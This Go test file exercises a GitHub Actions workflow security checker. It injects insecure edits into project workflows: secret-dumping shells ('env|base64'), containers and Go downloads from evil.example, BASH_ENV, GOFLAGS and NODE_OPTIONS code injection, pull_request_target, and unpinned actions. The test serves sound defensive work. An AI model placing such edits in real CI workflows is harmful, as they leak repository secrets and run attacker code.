package workflows_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rayplatform/rayplatform/scripts/internal/workflows"
)

const checkout = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"

// TestBroken breaks each rule once, in the text of a workflow that keeps it.
func TestBroken(t *testing.T) {
	for _, c := range []struct{ name, file, old, broken, want string }{
		{"event with secrets", "preview.yml", "\n  pull_request:", "\n  pull_request_target:", "is started by"},
		{"any run reported", "report.yml", "== 'pull_request' &&", "!= '' &&", "reports when"},
		{"cancelled run reported", "report.yml", `"startup_failure"`, `"startup_failure", "cancelled"`, "reports when"},
		{"rights at the top", "ci.yml", "permissions: {}", "permissions: {contents: write}", "at the top"},
		{"no rights at the top", "ci.yml", "permissions: {}", "", "at the top"},
		{"rights of a job", "report.yml", "      contents: read", "      contents: read\n      issues: write", "job report has the permissions"},
		{"no rights of a job", "ci.yml", "    permissions:\n      contents: read\n", "", "job test has the permissions"},
		{"cloud token offline", "preview.yml", "      contents: read\n    concurrency:\n      group: preview-${{",
			"      contents: read\n      id-token: write\n    concurrency:\n      group: preview-${{", "job offline has the permissions"},
		{"new job", "ci.yml", "jobs:\n", "jobs:\n  other: {permissions: {contents: read}, runs-on: ubuntu-24.04, timeout-minutes: 5}\n", "job other"},
		{"tag", "ci.yml", checkout, "actions/checkout@v7", "not pinned"},
		{"short commit", "ci.yml", checkout, "actions/checkout@3d3c42e # v7.0.1", "not pinned"},
		{"no version", "ci.yml", checkout, strings.TrimSuffix(checkout, " # v7.0.1"), "not its release"},
		{"major version only", "ci.yml", checkout, strings.TrimSuffix(checkout, ".0.1"), "not its release"},
		{"unknown action", "report.yml", "actions/upload-artifact@", "actions/download-artifact@", "not allowed"},
		{"another workflow", "ci.yml", "  test:\n", "  test:\n    uses: ./.github/workflows/other.yml\n", "field uses not found"},
		{"head in report", "report.yml", "persist-credentials: false",
			"persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}", "sets ref"},
		{"unsafe checkout", "report.yml", "persist-credentials: false",
			"persist-credentials: false\n          allow-unsafe-pr-checkout: true", "sets allow-unsafe-pr-checkout"},
		{"token left", "preview.yml", "persist-credentials: false", "persist-credentials: true", "leaves its token"},
		{"token left by default", "security.yml", "        with:\n          persist-credentials: false\n", "", "leaves its token"},
		{"event in a script", "preview.yml", "run: bash ", "run: echo ${{ github.head_ref }}; bash ", "expression in its script"},
		{"matrix in a script", "preview.yml", "--stack \"$STACK\"", "--stack ${{ matrix.stack }}", "expression in its script"},
		{"input in a script", "report.yml", "--run \"$RUN_ID\"", "--run ${{ inputs.run }}", "expression in its script"},
		{"secret in preview", "preview.yml", "STACK: ${{ matrix.stack }}", "KEY: ${{ secrets.KEY }}", "has to do with a secret"},
		{"secret by index", "preview.yml", "STACK: ${{ matrix.stack }}", "KEY: ${{ Secrets['KEY'] }}", "has to do with a secret"},
		{"token in preview", "preview.yml", "STACK: ${{ matrix.stack }}", "T: ${{ github.token }}", "has to do with a secret"},
		{"App in preview", "preview.yml", "STACK: ${{ matrix.stack }}", "PLATFORM_APP_ID: '1'", "has to do with a secret"},
		{"whole context", "preview.yml", "toJSON(vars)", "toJSON(secrets)", "has to do with a secret"},
		{"AWS key", "preview.yml", "role-to-assume: ${{ matrix.role }}", "aws-access-key-id: ${{ matrix.role }}", "has to do with a secret"},
		{"key for the job", "report.yml", "    environment: report\n",
			"    environment: report\n    env: {K: \"${{ secrets.PLATFORM_APP_PRIVATE_KEY }}\"}\n", "has to do with a secret"},
		{"key for the build", "report.yml", "- run: make platform",
			"- run: make platform\n        env: {PLATFORM_APP_PRIVATE_KEY: \"${{ secrets.PLATFORM_APP_PRIVATE_KEY }}\"}", "the key is given to"},
		{"key for another script", "report.yml", "run: .tools/bin/platform report", "run: env; .tools/bin/platform report", "the key is given to"},
		{"no time limit", "ci.yml", "timeout-minutes: 90", "", "no timeout-minutes"},
		{"step longer than job", "preview.yml", "timeout-minutes: 45", "timeout-minutes: 20", "ends before"},
		{"no concurrency", "security.yml", "  group: security-${{ github.ref }}\n", "", "no concurrency"},
		{"report cancelled", "report.yml", "cancel-in-progress: false", "cancel-in-progress: true", "half-way"},
		{"stacks cancel each other", "preview.yml", "-${{ matrix.stack }}\n      cancel", "\n      cancel", "other stacks"},
		{"pull requests cancel each other", "preview.yml", "preview-stacks-${{ github.event.pull_request.number || github.ref }}",
			"preview-stacks", "other pull requests"},
		{"old commit goes on", "preview.yml", "cancel-in-progress: true", "cancel-in-progress: false", "newer commit"},
		{"one artifact for all", "preview.yml", "name: preview-${{ matrix.stack }}", "name: preview", "every stack's artifact"},
		{"artifact only of success", "preview.yml", "- if: always()\n        uses:", "- uses:", "no artifact when it fails"},
		{"artifact kept", "preview.yml", "          retention-days: 7\n", "", "how long"},
		{"doctor without its environment", "doctor.yml", "    environment: report\n", "", "is in the environment"},
		{"doctor of a pull request", "doctor.yml", "  workflow_dispatch:\n", "  workflow_dispatch:\n  pull_request:\n", "is started by"},
		{"key for the doctor's build", "doctor.yml", "- run: make platform",
			"- env: {K: \"${{ secrets.PLATFORM_APP_PRIVATE_KEY }}\"}\n        run: make platform", "the key is given to"},
		{"no environment", "report.yml", "    environment: report\n", "", "is in the environment"},
		{"environment of a preview", "preview.yml", "    needs: stacks\n", "    needs: stacks\n    environment: report\n", "is in the environment"},
		{"own runner", "report.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted", "runs on"},
		{"role offline", "preview.yml", "      - run: make platform\n",
			"      - run: make platform\n      - uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c # v6.2.3\n",
			"takes a role"},
		{"role in report", "report.yml", "      - run: make platform\n",
			"      - run: make platform\n      - uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c # v6.2.3\n",
			"takes a role"},
		{"fork in the cloud", "preview.yml", " &&\n            github.event.pull_request.head.repo.full_name == github.repository", "", "decided by"},
		{"all in the cloud", "preview.yml", "fromJSON(needs.stacks.outputs.cloud)", "fromJSON(needs.stacks.outputs.offline)", "takes its stacks"},
		{"cloud always", "preview.yml", "if: needs.stacks.outputs.cloud != '[]'", "if: always()", "has the condition"},
		{"head's name in report", "report.yml", "RUN_ID: ", "BRANCH: ${{ github.event.workflow_run.head_branch }}\n          RUN_ID: ", "hands over"},
		{"own shell for the key", "report.yml", "        run: .tools/bin/platform report",
			"        shell: bash -c \"env|base64; bash {0}\"\n        run: .tools/bin/platform report", "field shell not found"},
		{"own shell for the doctor's key", "doctor.yml", "        run: .tools/bin/platform app",
			"        shell: bash -c \"env|base64; bash {0}\"\n        run: .tools/bin/platform app", "field shell not found"},
		{"own shell for all", "report.yml", "permissions: {}",
			"permissions: {}\ndefaults: {run: {shell: 'bash -c \"env|base64; bash {0}\"'}}", "field defaults not found"},
		{"own shell for the job", "report.yml", "    environment: report\n",
			"    environment: report\n    defaults: {run: {shell: 'bash -c \"env|base64; bash {0}\"'}}\n", "field defaults not found"},
		{"elsewhere", "doctor.yml", "        run: .tools/bin/platform app", "        working-directory: docs\n        run: .tools/bin/platform app",
			"field working-directory not found"},
		{"script before the key's", "report.yml", "          RUN_ID: ", "          BASH_ENV: docs/x.sh\n          RUN_ID: ", "variable BASH_ENV"},
		{"script before the doctor's", "doctor.yml", "      - env:\n", "      - env:\n          BASH_ENV: docs/x.sh\n", "variable BASH_ENV"},
		{"script before all of a job", "report.yml", "    environment: report\n",
			"    environment: report\n    env: {BASH_ENV: docs/x.sh}\n", "variable BASH_ENV"},
		{"known variable for the job", "report.yml", "    environment: report\n",
			"    environment: report\n    env: {PLATFORM_VERBOSE: '1'}\n", "shares something"},
		{"variables of a workflow", "report.yml", "permissions: {}", "permissions: {}\nenv: {BASH_ENV: docs/x.sh}", "field env not found"},
		{"variable of the build", "report.yml", "- run: make platform", "- run: make platform\n        env: {GOFLAGS: -toolexec=docs/x.sh}",
			"variable GOFLAGS"},
		{"known variable of the build", "doctor.yml", "- run: make platform", "- run: make platform\n        env: {PLATFORM_APP_ID: '1'}",
			"given to 2 steps"},
		{"variable of a preview", "preview.yml", "STACK: ${{ matrix.stack }}", "NODE_OPTIONS: --require=x", "variable NODE_OPTIONS"},
		{"container", "report.yml", "    environment: report\n", "    environment: report\n    container: evil.example/image:latest\n",
			"field container not found"},
		{"doctor's container", "doctor.yml", "    environment: report\n", "    environment: report\n    container: evil.example/image:latest\n",
			"field container not found"},
		{"services", "report.yml", "    environment: report\n", "    environment: report\n    services: {s: {image: evil.example/image}}\n",
			"field services not found"},
		{"outputs", "report.yml", "    environment: report\n", "    environment: report\n    outputs: {x: '1'}\n", "shares something"},
		{"matrix of reports", "report.yml", "    environment: report\n", "    environment: report\n    strategy: {matrix: {a: [1, 2]}}\n",
			"shares something"},
		{"failed preview passes", "preview.yml", "    runs-on: ${{ matrix.runner }}\n",
			"    runs-on: ${{ matrix.runner }}\n    continue-on-error: true\n", "field continue-on-error not found"},
		{"failed step passes", "preview.yml", "      - timeout-minutes: 45\n", "      - timeout-minutes: 45\n        continue-on-error: true\n",
			"field continue-on-error not found"},
		{"report after a failed build", "report.yml", "      - env:\n", "      - if: always()\n        env:\n", "step 4 has the condition"},
		{"doctor after a failed build", "doctor.yml", "      - env:\n", "      - if: failure() || true\n        env:\n", "step 4 has the condition"},
		{"doctor cancelled", "doctor.yml", "cancel-in-progress: false", "cancel-in-progress: true", "half-way"},
		{"doctor never", "doctor.yml", "    environment: report\n", "    environment: report\n    if: false\n", "has the condition"},
		{"one more script", "report.yml", "- run: make platform", "- run: make platform\n      - run: cp docs/x .tools/bin/platform", "job report does"},
		{"doctor's further script", "doctor.yml", "- run: make platform", "- run: make platform\n      - run: cp docs/x .tools/bin/platform",
			"job doctor does"},
		{"doctor says more", "doctor.yml", "platform app doctor", "platform app doctor; env", "the key is given to"},
		{"other code", "report.yml", "persist-credentials: false", "persist-credentials: false\n          repository: evil/x", "sets repository"},
		{"other token", "doctor.yml", "persist-credentials: false", "persist-credentials: false\n          token: x", "sets token"},
		{"own key for the checkout", "preview.yml", "persist-credentials: false", "persist-credentials: false\n          ssh-key: x", "sets ssh-key"},
		{"submodules", "report.yml", "persist-credentials: false", "persist-credentials: false\n          submodules: true", "sets submodules"},
		{"Go from elsewhere", "report.yml", "cache-dependency-path: go.sum", "go-download-base-url: https://evil.example", "sets go-download-base-url"},
		{"artifact of all there is", "report.yml", "path: out/report", "path: /", "keeps"},
		{"second document", "doctor.yml", "permissions: {}", "permissions: {}\n---\njobs: {}", "more than one document"},
		{"job by another name", "preview.yml", "name: offline (${{ matrix.stack }})", "name: offline", "by which reports know it"},
		{"reports of all in one group", "report.yml", "${{ github.event.workflow_run.id || inputs.run }}\n      cancel", "\n      cancel", "waits for those"},
		{"skipped runs in the group", "report.yml", "permissions: {}", "permissions: {}\nconcurrency: {group: report}", "skipped"},
	} {
		t.Run(c.name, func(t *testing.T) {
			text, err := os.ReadFile(filepath.Join(folder, c.file))
			if err != nil {
				t.Fatal(err)
			}
			broken := strings.Replace(string(text), c.old, c.broken, 1)
			if broken == string(text) {
				t.Fatalf("%s has no %q", c.file, c.old)
			}
			var got []string
			if w, err := workflows.Parse(c.file, []byte(broken)); err != nil {
				got = []string{err.Error()}
			} else {
				got = findings(w)
			}
			if !strings.Contains(strings.Join(got, "\n"), c.want) {
				t.Errorf("found %q, want a finding with %q", got, c.want)
			}
		})
	}
}
